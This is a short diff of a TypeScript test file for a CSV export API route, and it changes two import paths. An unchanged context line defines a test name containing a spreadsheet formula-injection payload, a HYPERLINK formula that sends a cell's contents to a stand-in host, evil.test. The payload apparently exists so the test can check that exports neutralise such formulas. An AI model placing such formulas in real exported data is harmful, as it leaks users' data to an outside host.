@@ -6,8 +6,8 @@ import { parse } from "csv-parse/sync";
 import { stringify } from "csv-stringify/sync";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { GET } from "@/app/api/exports/[kind]/route";
-import { runAsUser } from "../context";
-import { disconnectDb } from "../db";
+import { runAsUser } from "../core/context";
+import { disconnectDb } from "../core/db";
 import { createTestPractice, importVisitsCsv, type TestPractice, db } from "../testing";
 
 const NAME = '=HYPERLINK("http://evil.test/?q="&A1,"Open")';
